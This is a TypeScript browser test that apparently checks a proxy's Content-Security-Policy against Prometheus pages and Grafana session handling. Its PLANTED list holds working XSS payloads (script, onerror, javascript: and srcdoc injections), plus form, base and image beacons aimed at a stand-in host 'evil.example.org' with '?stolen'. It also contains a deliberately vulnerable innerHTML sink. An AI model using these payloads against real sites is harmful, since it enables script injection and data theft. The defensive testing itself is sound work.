import assert from "node:assert/strict"
import { createServer } from "node:http"
import { after, test } from "node:test"
import type { Browser } from "playwright-core"
import { findChromium, openBrowser, openTab } from "../../dev/testing/browser.ts"
import { need } from "../../dev/testing/component.ts"
import { temporaryFolder } from "../../dev/testing/folder.ts"
import { listen } from "../../dev/testing/listen.ts"
import { findPrometheus, startPrometheus } from "../../dev/testing/prometheus.ts"
import { until } from "../../dev/testing/until.ts"
import { openDoor, standIn } from "./testing.ts"

/** What a site may choose as a value of a label. */
const PLANTED = [
  "<img src=x onerror=planted(1)>",
  "<script>planted(2)</script>",
  "<svg onload=planted(3)></svg>",
  "<a href='javascript:planted(4)'>click</a>",
  "<iframe srcdoc='<script>parent.planted(5)</script>'></iframe>",
  "<form action='https://evil.example.org/'><button>send</button></form>",
  "<base href='https://evil.example.org/'>",
  "<object data='data:text/html,<script>planted(6)</script>'></object>",
  "<img src='https://evil.example.org/?stolen'>",
  "<style>body { background: url(https://evil.example.org/?stolen) }</style>",
].join("")

/** As Prometheus' pages are made: a script in the head, modules, styles in elements, the API below the prefix. */
const PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>Prometheus</title>
<link rel="icon" href="data:,">
<script>const GLOBAL_READY='true'; window.planted = (n) => { document.title += " planted " + n }</script>
<link rel="stylesheet" href="./assets/index.css"><script type="module" crossorigin src="./assets/index.js"></script></head>
<body><div id="root" style="width: 10px"></div></body></html>`
/** As versions of Prometheus did: a label's value becomes HTML. */
const MODULE = `
const response = await fetch("./api/v1/series?match[]=evil")
const { data } = await response.json()
const root = document.getElementById("root")
root.innerHTML = data[0].a
root.insertAdjacentHTML("beforeend", "<p id=done>ready " + GLOBAL_READY + "</p>")
for (const script of root.querySelectorAll("script")) {
  const again = document.createElement("script")
  again.textContent = script.textContent
  document.body.append(again)
}`

/** By which directive each is refused: five are scripts. */
const REFUSED = [
  "base-uri",
  "img-src",
  "img-src",
  "object-src",
  "script-src",
  "script-src",
  "script-src",
  "script-src",
  "script-src",
]

let browser: Promise<Browser> | undefined
after(async () => (await browser)?.close())

for (const version of ["2.53", "3.5"] as const) {
  test(`what a site plants in its labels does nothing in a page of Prometheus ${version}`, async (t) => {
    const folder = need(t, findPrometheus(version))
    const chromium = need(t, findChromium())
    if (folder === undefined || chromium === undefined) return
    const site = createServer((_request, response) =>
      response
        .writeHead(200, { "content-type": "text/plain; version=0.0.4" })
        .end(`evil{a=${JSON.stringify(PLANTED)}} 1\n`),
    )
    const port = await listen(t, site)
    const config = await temporaryFolder(t).write(
      "prometheus.yml",
      `scrape_configs: [{job_name: a, scrape_interval: 1s, static_configs: [{targets: ["127.0.0.1:${port}"]}]}]`,
    )
    const prometheus = await startPrometheus(folder, config, ["--web.external-url=http://a/prometheus/"])
    t.after(() => prometheus.stop())
    await until("the site's series", async () => ((await prometheus.query("evil")).length === 1 ? true : undefined))
    // the distribution's Prometheus has no pages: these are of a server that has them, its data is Prometheus'
    const files: Readonly<Record<string, readonly [string, string]>> = {
      "/prometheus/query": ["text/html; charset=utf-8", PAGE],
      "/prometheus/assets/index.js": ["text/javascript", MODULE],
      "/prometheus/assets/index.css": ["text/css", "p { color: green }"],
    }
    const upstream = await standIn(t, (request, response) => {
      const [type, content] = files[request.url ?? ""] ?? []
      if (type !== undefined) {
        response.writeHead(200, { "content-type": type }).end(content)
        return
      }
      void fetch(new URL(request.url ?? "", prometheus.url)).then(async (got) =>
        response.writeHead(got.status, { "content-type": "application/json" }).end(await got.text()),
      )
    })
    const door = await openDoor(t, upstream.url)
    browser ??= openBrowser(chromium)
    const { page, complaints } = await openTab(t, await browser)
    await page.goto(`${door.url}/prometheus/query`)
    await page.getByText("ready true").waitFor()
    await page.evaluate("document.querySelector('#root a').click()")
    const refused = await until("the browser to have refused all of it", () => {
      const found = complaints().flatMap((text) => /directive:? ["']([a-z-]+)/.exec(text)?.slice(1) ?? [])
      return found.length >= REFUSED.length ? found.toSorted() : undefined
    })
    assert.deepEqual(refused, REFUSED)
    assert.equal(await page.title(), "Prometheus")
    assert.equal(page.url(), `${door.url}/prometheus/query`)
    assert.equal(await page.evaluate("getComputedStyle(document.querySelector('#done')).color"), "rgb(0, 128, 0)")
    await page.evaluate("document.querySelector('#root button').click()")
    await until("the form to be refused", () =>
      complaints().some((text) => text.includes(`"form-action 'self'"`)) ? true : undefined,
    )
    assert.deepEqual(
      upstream.received.map(({ url }) => url),
      [
        "/prometheus/query",
        "/prometheus/assets/index.css",
        "/prometheus/assets/index.js",
        "/prometheus/api/v1/series?match%5B%5D=evil&timeout=60",
      ],
    )
  })
}

test("Grafana works with the scripts that it sends, and learns the user from the portal", async (t) => {
  const chromium = need(t, findChromium())
  if (chromium === undefined) return
  const html = `<!doctype html><html><head><title>Grafana</title><link rel="icon" href="data:,"></head>
<body><div id="root">loading</div><script nonce="">window.grafanaBootData = { user: "x" }</script>
<script src="/grafana/public/build/app.js"></script></body></html>`
  const app = `fetch("/grafana/api/ds/query", { method: "POST", headers: { "content-type": "application/json", "x-datasource-uid": "p" }, body: JSON.stringify(grafanaBootData) })
  .then((response) => response.json()).then(({ ok }) => { root.textContent = "loaded " + ok + new Function("return 1")() })`
  const files: Readonly<Record<string, readonly [string, string]>> = {
    "/grafana/d/abc/board": ["text/html; charset=UTF-8", html],
    "/grafana/public/build/app.js": ["application/javascript", app],
    "/grafana/api/ds/query": ["application/json", '{"ok":true}'],
  }
  const upstream = await standIn(t, (request, response) => {
    const [type = "text/plain", content = ""] = files[request.url ?? ""] ?? []
    response.writeHead(200, { "content-type": type, "set-cookie": "grafana_session=secret" }).end(content)
  })
  const door = await openDoor(t, upstream.url, { server: "grafana", userOf: () => "alice" })
  browser ??= openBrowser(chromium)
  const { page, complaints, context } = await openTab(t, await browser)
  await page.goto(`${door.url}/grafana/d/abc/board`)
  await page.getByText("loaded true1").waitFor()
  assert.deepEqual(complaints(), [])
  assert.deepEqual(await context.cookies(), [])
  assert.deepEqual(
    upstream.received.map(({ method, url, headers, body }) => [
      method,
      url,
      headers["x-webauth-user"],
      headers["x-datasource-uid"],
      headers.origin,
      body,
    ]),
    [
      ["GET", "/grafana/d/abc/board", "alice", undefined, undefined, ""],
      ["GET", "/grafana/public/build/app.js", "alice", undefined, undefined, ""],
      ["POST", "/grafana/api/ds/query", "alice", "p", undefined, '{"user":"x"}'],
    ],
  )
})
